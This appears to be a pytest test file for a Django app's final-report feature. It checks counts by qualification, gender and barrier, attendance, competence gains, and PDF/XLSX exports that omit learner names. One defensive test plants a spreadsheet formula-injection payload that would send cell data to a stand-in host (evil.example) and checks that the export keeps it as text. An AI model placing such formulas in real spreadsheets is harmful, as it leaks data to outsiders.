"""The final report to the national agency: its figures, counts only (no learner named), PDF and XLSX."""

import io
from datetime import date

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from accounts.models import Organisation
from assessments.models import AssessmentRound, Outcome, ScaleLevel, Unit
from assessments.services import save_round
from attendance.services import DayEntry, placement_days, save_days
from participants.models import Barrier, Participant
from placements.models import Assignment
from reports.final_report import report_data, report_pdf, report_xlsx

from .factories import AssignmentFactory, OrganisationFactory, ParticipantFactory
from .tools import pdf_text

AFTER = date(2027, 6, 1)  # after both placements of the world
BASELINE, FINAL = AssessmentRound.Kind.BASELINE, AssessmentRound.Kind.FINAL


def make_framework(qualification, units=2, per_unit=2):
    outcomes = []
    for u in range(1, units + 1):
        unit = Unit.objects.create(qualification=qualification, title=f"Unit {u} of {qualification.name}", position=u)
        outcomes += Outcome.objects.bulk_create(
            Outcome(unit=unit, kind=Outcome.Kind.SKILLS, text=f"Outcome {u}.{o}", position=o)
            for o in range(1, per_unit + 1)
        )
    return outcomes


def rate(assignment, kind, outcomes, code, *, user, submit=True):
    level = ScaleLevel.objects.get(code=code)
    ratings = {outcome.pk: (level.pk, "seen") for outcome in outcomes}
    save_round(assignment, kind, ratings, user=user, submit=submit)


def make_framework_outcomes(qualification):
    return list(Outcome.objects.filter(unit__qualification=qualification))


def working_days(placement):
    return [d.date for d in placement_days(placement) if d.expected]


def record_attendance(user, assignment, present, absent=0):
    days = working_days(assignment.placement)
    entries = [DayEntry(assignment.pk, day, "present") for day in days[:present]]
    entries += [DayEntry(assignment.pk, day, "absent-unexcused") for day in days[present : present + absent]]
    assert save_days(user, entries, today=AFTER).ok


def all_names(project):
    return {
        name
        for first, last in Participant.objects.filter(project=project).values_list("first_name", "last_name")
        for name in (first, last)
    }


@pytest.fixture
def report_world(world):
    """The world at the end of its placements: barriers, a withdrawal, attendance and assessment rounds."""
    barriers = {b.code: b for b in Barrier.objects.all()}
    world.learner.barriers.set([barriers["disability"], barriers["economic"]])
    world.other_learner.barriers.set([barriers["economic"]])
    quitter = ParticipantFactory(
        project=world.project,
        qualification=world.placement.qualification,
        first_name="Gheorghița",
        last_name="Rostaș",
        gender=Participant.Gender.FEMALE,
    )
    quitter.barriers.set([barriers["discrimination"]])
    AssignmentFactory(
        participant=quitter,
        placement=world.placement,
        host_company=world.host,
        status=Assignment.Status.WITHDRAWN,
        withdrawal_reason="Gheorghița went home: her mother fell ill.",
    )
    # On the project's list but never assigned (waiting list): not a participant of the report.
    ParticipantFactory(project=world.project, qualification=world.placement.qualification, first_name="Waiting")
    world.assignment.status = Assignment.Status.COMPLETED
    world.assignment.save()
    OrganisationFactory(name="Service Auto Moldova SRL", kind=Organisation.Kind.EMPLOYER, country="RO", city="Bacău")

    record_attendance(world.coordinator, world.assignment, present=15, absent=4)
    record_attendance(world.coordinator, world.other_assignment, present=len(working_days(world.other_placement)))

    world.mechanic_outcomes = make_framework(world.placement.qualification)
    make_framework(world.other_placement.qualification)
    rate(world.assignment, BASELINE, world.mechanic_outcomes, "not-yet", user=world.mentor)
    rate(world.assignment, FINAL, world.mechanic_outcomes, "independently", user=world.mentor)
    return world


# The figures


def test_report_counts_participants_by_qualification_and_gender(report_world):
    data = report_data(report_world.project, today=AFTER)

    rows = {row["qualification"]: row for row in data["participants"]["rows"]}
    assert rows["Maintenance mechanic"] == {
        "qualification": "Maintenance mechanic",
        "female": 1,
        "male": 1,
        "other": 0,
        "total": 2,
    }
    assert rows["Textile and leather products manufacturing"]["female"] == 1
    assert data["participants"]["total"]["total"] == 3  # the learner on the waiting list is not counted


def test_report_counts_fewer_opportunities_per_category_without_names(report_world):
    found = report_data(report_world.project, today=AFTER)["fewer_opportunities"]

    assert found["participants"] == 3
    assert found["with_fewer_opportunities"] == 3
    per_category = {c["code"]: c["participants"] for c in found["categories"]}
    assert per_category == {
        "disability": 1,
        "health": 0,
        "education": 0,
        "cultural": 0,
        "social": 0,
        "economic": 2,
        "discrimination": 1,
        "geographical": 0,
    }
    assert all(set(c) == {"code", "name", "participants"} for c in found["categories"])


def test_report_gives_completion_and_withdrawal_reasons_with_names_blanked(report_world):
    completion = report_data(report_world.project, today=AFTER)["completion"]

    assert completion["total"] == {"learners": 3, "completed": 1, "in_progress": 1, "withdrawn": 1}
    assert completion["withdrawal_reasons"] == [
        {"placement": "Flow 1 – Mechanics", "reason": "… went home: her mother fell ill."}
    ]


def test_report_gives_attendance_per_placement(report_world):
    attendance = report_data(report_world.project, today=AFTER)["attendance"]
    expected = len(working_days(report_world.placement))

    mechanics, textile = attendance["rows"]
    assert mechanics["learners"] == 1  # the learner who withdrew is counted under completion only
    assert (mechanics["present_days"], mechanics["expected_days"]) == (15, expected)
    assert mechanics["average_rate"] == round(100 * 15 / expected)
    assert mechanics["below_required"] == 1
    assert (textile["average_rate"], textile["below_required"]) == (100, 0)


def test_report_gives_gains_per_unit_from_submitted_rounds_only(report_world):
    world = report_world
    outcomes = make_framework_outcomes(world.other_placement.qualification)
    rate(world.other_assignment, BASELINE, outcomes, "with-help", user=world.other_mentor)
    rate(world.other_assignment, FINAL, outcomes, "can-explain", user=world.other_mentor, submit=False)

    mechanics, textile = report_data(world.project, today=AFTER)["competences"]

    assert [(u["learners"], u["baseline"], u["final"], u["gain"]) for u in mechanics["units"]] == [
        (1, 1.0, 3.0, 2.0),
        (1, 1.0, 3.0, 2.0),
    ]
    assert [u["gain"] for u in textile["units"]] == [None, None]  # the final round is a draft


def test_report_lists_partners_hosts_and_local_employers(report_world):
    data = report_data(report_world.project, today=AFTER)

    hosted = {org["name"]: org["learners"] for org in data["partners"]["hosts"]}
    assert hosted == {"Metalúrgica do Cávado": 1, "Têxteis Guimarães": 1}  # withdrawals not counted
    assert [(org["name"], org["learners"]) for org in data["partners"]["receiving"]] == [("Intercâmbio Minho", 2)]
    assert data["partners"]["hosts"][0]["country"] == "Portugal"
    assert [org["name"] for org in data["employers"]] == ["Service Auto Moldova SRL"]
    assert data["dissemination"] == []


def test_report_counts_archived_learners_who_took_part(report_world):
    report_world.learner.archive()

    assert report_data(report_world.project, today=AFTER)["participants"]["total"]["total"] == 3


# Bounded queries


def add_learners(world, count):
    economic = Barrier.objects.get(code="economic")
    for _n in range(count):
        participant = ParticipantFactory(project=world.project, qualification=world.placement.qualification)
        participant.barriers.set([economic])
        assignment = AssignmentFactory(
            participant=participant, placement=world.placement, host_company=world.host, mentor=world.mentor
        )
        record_attendance(world.coordinator, assignment, present=3)
        rate(assignment, BASELINE, world.mechanic_outcomes, "with-help", user=world.mentor)


def queries_for_report(project):
    with CaptureQueriesContext(connection) as queries:
        report_data(project, today=AFTER)
    return len(queries)


def test_report_reads_a_fixed_number_of_queries_whatever_the_number_of_learners(report_world):
    add_learners(report_world, 2)
    # A report keeps no budget figures (grants.reporting): each computes today's, in a fixed number of queries.
    queries_for_report(report_world.project)
    few = queries_for_report(report_world.project)
    add_learners(report_world, 12)
    many = queries_for_report(report_world.project)

    assert report_data(report_world.project, today=AFTER)["participants"]["total"]["total"] == 17
    assert few == many


# The files


def test_pdf_holds_the_figures_and_no_participant_name(report_world):
    pdf, filename = report_pdf(report_world.project)

    text = pdf_text(pdf)
    assert pdf.startswith(b"%PDF")
    assert filename == f"final-report-{report_world.project.reference}.pdf"
    assert "Barriers linked to discrimination" in text
    assert "Co-funded by the European Union" in text
    assert "Dissemination activities are recorded on" in text
    assert "went home: her mother fell ill." in text
    for name in all_names(report_world.project):
        assert name not in text


def test_xlsx_opens_with_the_same_counts_and_no_participant_name(report_world):
    content, filename = report_xlsx(report_world.project)

    workbook = load_workbook(io.BytesIO(content))
    assert filename.endswith(".xlsx")
    assert workbook.sheetnames[:4] == ["Project", "Participants", "Fewer opportunities", "Completion"]
    categories = workbook["Fewer opportunities"]
    assert [cell.value for cell in categories[1]] == ["Category", "Participants"]
    assert categories[1][0].font.bold
    counts = {row[0]: row[1] for row in categories.iter_rows(min_row=2, values_only=True)}
    assert counts["Economic barriers"] == 2
    assert counts["Disabilities"] == 1
    assert isinstance(counts["Economic barriers"], int)
    participants = {row[0]: row for row in workbook["Participants"].iter_rows(min_row=2, values_only=True)}
    assert participants["Total"][1:] == (2, 1, 0, 3)
    cells = [str(value) for sheet in workbook for row in sheet.iter_rows(values_only=True) for value in row if value]
    for name in all_names(report_world.project):
        assert not any(name in cell for cell in cells)


def test_xlsx_keeps_formula_like_names_as_text(report_world):
    """An organisation imported from someone's spreadsheet must not become a formula Excel runs on opening."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    report_world.host.name = evil
    report_world.host.save()
    content, _name = report_xlsx(report_world.project)

    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.value == evil]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_xlsx_is_the_same_bytes_for_the_same_figures(report_world):
    first, _name = report_xlsx(report_world.project)
    second, _name = report_xlsx(report_world.project)

    assert first == second
    assert load_workbook(io.BytesIO(first)).properties.created.date() == report_world.project.end_date
